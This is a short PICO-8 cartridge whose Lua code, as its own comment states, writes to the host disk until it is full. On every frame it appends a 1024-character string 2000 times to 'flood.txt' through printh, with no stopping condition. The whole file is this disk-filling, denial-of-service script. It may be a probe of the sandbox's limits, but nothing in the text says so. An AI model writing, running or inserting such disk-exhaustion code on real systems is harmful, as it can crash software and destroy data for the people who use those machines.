pico-8 cartridge // http://www.pico-8.com
version 42
__lua__
-- writes printh files until the disk is full
s="0123456789abcdef"
for i=1,6 do s=s..s end
n=0
function _update()
 for i=1,2000 do n+=1 printh(s,"flood.txt") end
end
